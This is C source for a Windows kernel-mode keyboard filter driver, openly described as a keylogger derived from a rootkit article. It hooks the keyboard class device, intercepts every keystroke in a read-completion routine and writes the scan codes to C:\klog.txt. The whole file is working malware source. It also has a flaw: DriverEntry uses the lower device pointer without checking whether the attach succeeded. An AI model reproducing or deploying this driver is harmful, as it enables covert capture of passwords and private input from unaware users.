/*
 * kbdlog - driver.c
 *
 * Attaches to \Device\KeyboardClass0, every IRP_MJ_READ gets a completion
 * routine that copies the KEYBOARD_INPUT_DATA into a queue, a system thread
 * writes the queue to C:\klog.txt.
 *
 * Based on the old "Klog" rootkit.com article, updated for x64.
 */
#include "kbdlog.h"

volatile LONG  g_PendingIrps  = 0;
PDEVICE_OBJECT g_FilterDevice = NULL;

DRIVER_INITIALIZE      DriverEntry;
DRIVER_UNLOAD          KlUnload;
DRIVER_DISPATCH        KlPassThrough;
DRIVER_DISPATCH        KlRead;
DRIVER_DISPATCH        KlPower;
IO_COMPLETION_ROUTINE  KlReadComplete;

NTSTATUS KlPassThrough(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS KlPower(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    PoStartNextPowerIrp(Irp);           // pre-Vista leftover, no-op now
    IoSkipCurrentIrpStackLocation(Irp);
    return PoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS KlReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    PKEYBOARD_INPUT_DATA keys;
    ULONG count, i;

    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        keys  = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));

        for (i = 0; i < count; i++) {
            KdPrint(("[kbdlog] scan 0x%02X %s\n", keys[i].MakeCode,
                     (keys[i].Flags & KEY_BREAK) ? "up" : "down"));
            KlQueueKey(keys[i].MakeCode, keys[i].Flags);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_PendingIrps);
    return Irp->IoStatus.Status;
}

NTSTATUS KlRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KlReadComplete, NULL, TRUE, TRUE, TRUE);

    InterlockedIncrement(&g_PendingIrps);
    return IoCallDriver(ext->LowerDevice, Irp);
}

VOID KlUnload(PDRIVER_OBJECT DriverObject)
{
    PKL_DEVICE_EXTENSION ext = (PKL_DEVICE_EXTENSION)DriverObject->DeviceObject->DeviceExtension;
    LARGE_INTEGER delay;

    KdPrint(("[kbdlog] unload, %d read(s) pending\n", g_PendingIrps));

    IoDetachDevice(ext->LowerDevice);

    // kbdclass always keeps one read pending through us; it completes on
    // the next key press. Don't pull the code out from under it.
    delay.QuadPart = -1000000;   // 100 ms
    while (g_PendingIrps > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &delay);
    }

    KlStopLogger();

    IoDeleteDevice(DriverObject->DeviceObject);
    g_FilterDevice = NULL;

    KdPrint(("[kbdlog] bye (%u keys written)\n", g_Logger.Written));
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS             status;
    UNICODE_STRING       kbdName;
    PKL_DEVICE_EXTENSION ext;
    ULONG                i;

    UNREFERENCED_PARAMETER(RegistryPath);
    KdPrint(("[kbdlog] DriverEntry\n"));

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KlPassThrough;
    }
    DriverObject->MajorFunction[IRP_MJ_READ]  = KlRead;
    DriverObject->MajorFunction[IRP_MJ_POWER] = KlPower;
    DriverObject->DriverUnload = KlUnload;

    //
    // 1) writer thread + queue first, keys can arrive as soon as we attach
    //
    status = KlStartLogger();
    if (!NT_SUCCESS(status)) {
        KdPrint(("[kbdlog] KlStartLogger failed 0x%08X\n", status));
        return status;
    }

    //
    // 2) unnamed filter device
    //
    status = IoCreateDevice(DriverObject,
                            sizeof(KL_DEVICE_EXTENSION),
                            NULL,
                            FILE_DEVICE_KEYBOARD,
                            0,
                            FALSE,
                            &g_FilterDevice);
    if (!NT_SUCCESS(status)) {
        KdPrint(("[kbdlog] IoCreateDevice failed 0x%08X\n", status));
        KlStopLogger();
        return status;
    }

    ext = (PKL_DEVICE_EXTENSION)g_FilterDevice->DeviceExtension;
    RtlZeroMemory(ext, sizeof(KL_DEVICE_EXTENSION));

    //
    // 3) hook in on top of kbdclass
    //
    RtlInitUnicodeString(&kbdName, KL_KBD_DEVICE);
    status = IoAttachDevice(g_FilterDevice, &kbdName, &ext->LowerDevice);

    // same buffering/power flags as the device below us
    g_FilterDevice->Flags |= ext->LowerDevice->Flags & (DO_BUFFERED_IO | DO_DIRECT_IO | DO_POWER_PAGABLE);
    g_FilterDevice->DeviceType      = ext->LowerDevice->DeviceType;
    g_FilterDevice->Characteristics = ext->LowerDevice->Characteristics;
    g_FilterDevice->Flags &= ~DO_DEVICE_INITIALIZING;

    KdPrint(("[kbdlog] attached to %wZ, lower = %p\n", &kbdName, ext->LowerDevice));
    return STATUS_SUCCESS;
}
